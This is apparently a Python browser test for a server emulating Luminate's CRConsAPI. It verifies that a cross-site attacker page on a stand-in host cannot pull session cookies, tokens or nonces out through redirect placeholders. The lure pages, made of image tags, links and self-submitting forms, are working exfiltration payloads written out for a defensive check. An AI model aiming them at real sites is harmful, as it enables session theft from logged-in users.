#!/usr/bin/env python3
"""A stranger's page in a real browser that is logged in to Luminate's client servlet: cross-site, over TLS, so that the browser sends its cookie.

    redirects.py

The page asks the servlet to redirect the browser back to it with placeholders for every secret there is: by image tags, by links, and by forms that
send themselves. Nothing that gives access may reach the page's host, and where no hosts are configured nothing at all. It starts the program that
UNDERSTUDY_BINARY names, by default the debug build. Needs Debian's chromium, chromium-driver and openssl, and nothing but Python's library.
"""

import contextlib
import html
import http.server
import os
import pathlib
import ssl
import sys
import threading
import urllib.parse

from webdriver import Browser, Driver

ROOT = pathlib.Path(__file__).resolve().parents[3]
sys.path.insert(0, str(ROOT / "Tests/BlackBox"))
from blackbox import Server, certificate_in, folder  # noqa: E402

CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")
CHROMEDRIVER = os.environ.get("CHROMEDRIVER", "/usr/bin/chromedriver")
GIVING, STRANGER = "giving.example", "stranger.example"  # two sites to a browser
DONOR = "1000121"

# What a browser can ask for in a session, with what may be shown of the answer. logout ends the session, so it comes last.
METHODS = {"getLoginUrl": ("getLoginUrlResponse", "routing_id"), "loginTest": ("loginResponse", "cons_id"), "logout": ("loginResponse", "message")}
SECRETS = ("JSESSIONID", "token", "nonce", "url")

checks = 0


def check(condition, what):
    global checks
    if not condition:
        sys.exit(f"redirects: {what}")
    checks += 1


# MARK: The stranger

class Stranger(http.server.ThreadingHTTPServer):
    """The stranger's host. It shows the page it was given last, and keeps all that ever reached it."""

    daemon_threads = True

    def __init__(self, certificate, key):
        super().__init__(("127.0.0.1", 0), StrangerHandler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(certificate, key)
        self.socket = context.wrap_socket(self.socket, server_side=True)
        self.url = f"https://{STRANGER}:{self.server_address[1]}"
        self.page = ""
        self.taken = []
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def handle_error(self, *_):
        pass  # a browser closes connections that it opened ahead

    def query(self, name):
        """The query under which the browser came to /taken/NAME; None when it has not."""
        for line in self.taken:
            path = line.split(" ")[1]
            if path.startswith(f"/taken/{name}?"):
                return dict(urllib.parse.parse_qsl(path.split("?", 1)[1], keep_blank_values=True))
        return None


class StrangerHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        length = int(self.headers.get("Content-Length") or 0)
        self.server.taken.append(f"{self.requestline}\n{self.headers}\n{self.rfile.read(length).decode(errors='replace')}")
        body = (self.server.page if self.path == "/page" else "<title>taken</title>").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Referrer-Policy", "unsafe-url")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *_):
        pass


def fields(method, name, stranger):
    """A request that wants to be answered by a redirect to the stranger with everything in it."""
    root, shown = METHODS[method]
    query = "&".join(f"{member}=${{{root}/{member}}}" for member in (*SECRETS, shown)) + "&code=${errorResponse/code}&end=1"
    return {"method": method, "api_key": "open", "v": "1.0", "redirect": f"{stranger.url}/taken/{name}?{query}"}


def address(base, method, name, stranger):
    return html.escape(f"{base}/site/CRConsAPI?{urllib.parse.urlencode(fields(method, name, stranger))}")


def image(base, method, name, stranger):
    return f'<img src="{address(base, method, name, stranger)}" onerror="document.title = \'failed\'">'


def link(base, method, name, stranger):
    return f'<a href="{address(base, method, name, stranger)}">A present for you</a>'


def form(base, method, name, stranger):
    inputs = "".join(
        f'<input type="hidden" name="{field}" value="{html.escape(value)}">' for field, value in fields(method, name, stranger).items())
    return f'<form method="post" action="{base}/site/CRConsAPI">{inputs}</form>'


WAYS = {"image": (image, None), "link": (link, "document.querySelector('a').click()"), "form": (form, "document.querySelector('form').submit()")}


# MARK: The donor

@contextlib.contextmanager
def world(driver, *options):
    """A browser, the servlet's address, and the stranger."""
    with folder() as place:
        certificate, key = certificate_in(place)
        with Server("--tls-cert", certificate, "--tls-key", key, *options, admin=False) as server:
            with Browser(driver, CHROMIUM, names=(GIVING, STRANGER)) as browser:
                stranger = Stranger(certificate, key)
                try:
                    yield browser, f"https://{GIVING}:{server.port}", stranger
                finally:
                    stranger.shutdown()
                    stranger.server_close()


def ask(browser, base, **parameters):
    """The answer that a page of the servlet's own site gets, as JSON without its outermost member."""
    browser.open(base + "/livez")
    answer = browser.script("""
        const body = new URLSearchParams({ ...arguments[0], api_key: "open", v: "1.0", response_format: "json" });
        return fetch("/site/CRConsAPI", { method: "POST", body }).then((answer) => answer.json());
        """, parameters)
    return next(iter(answer.values()))


def log_in(browser, base):
    """What the donor's browser knows from now on and nobody else may learn."""
    login = ask(browser, base, method="login", user_name="donor", password="old-secret")
    check(login["cons_id"] == DONOR, f"the donor logs in: {login}")
    session = ask(browser, base, method="getLoginUrl")
    cookies = [cookie for cookie in browser.devtools("Network.getAllCookies")["cookies"] if cookie["name"] == "JSESSIONID"]
    check([(cookie["value"], cookie["sameSite"], cookie["secure"]) for cookie in cookies] == [(session["JSESSIONID"], "None", True)],
          f"the browser keeps the session and sends it across sites: {cookies}")
    return {value for answer in (login, session) for name, value in answer.items() if name in SECRETS} | {cookies[0]["value"]}


def lure(browser, stranger, page, action):
    stranger.page = f"<!DOCTYPE html><title>page</title>{page}"
    browser.open(stranger.url + "/page")
    if action:
        browser.script(action)


def hosts_open(driver):
    """In the demo world a redirect leads anywhere, and brings the constituent's id, as the vendor's pages say, and nothing that gives access."""
    with world(driver) as (browser, base, stranger):
        for way, (make, action) in WAYS.items():
            secrets = log_in(browser, base)
            for method, (_, shown) in METHODS.items():
                name = f"{way}-{method}"
                lure(browser, stranger, make(base, method, name, stranger), action)
                browser.wait(lambda: stranger.query(name), f"{name} to lead to the stranger")
                query = stranger.query(name)
                check(query["end"] == "1" and query[shown], f"{name}: the redirect was filled: {query}")
                check(all(query[member] == "" for member in SECRETS), f"{name}: nothing secret is in the address: {query}")
                if method == "loginTest":
                    check(query["cons_id"] == DONOR, f"{name}: the browser sent its cookie, so that the redirect knew the donor: {query}")
            for line in stranger.taken:
                found = [secret for secret in secrets if secret in line or urllib.parse.quote(secret, safe="") in line]
                check(not found, f"{way}: nothing that gives access reaches the stranger: {line}")
            stranger.taken.clear()


def hosts_closed(driver):
    """With accounts of one's own and no hosts configured, no redirect leads anywhere."""
    with world(driver, "--fixtures", str(ROOT / "samples/fixtures.json")) as (browser, base, stranger):
        log_in(browser, base)
        for way, (make, action) in WAYS.items():
            for method in METHODS:
                lure(browser, stranger, make(base, method, f"{way}-{method}", stranger), action)
                if action:
                    browser.wait(lambda: browser.address.startswith(base) and "<code>22</code>" in browser.source, f"{way} to be refused")
                else:
                    browser.wait(lambda: browser.title == "failed", "the image to fail")
        lines = [line.split("\n")[0] for line in stranger.taken if not line.startswith(("GET /page ", "GET /favicon.ico "))]
        check(not lines, f"nothing leads to the stranger: {lines}")
        check(ask(browser, base, method="loginTest")["cons_id"] == DONOR, "the donor is logged in still")


def main():
    with Driver(CHROMEDRIVER) as driver:
        hosts_open(driver)
        hosts_closed(driver)
    print(f"redirects: {checks} checks")


if __name__ == "__main__":
    main()
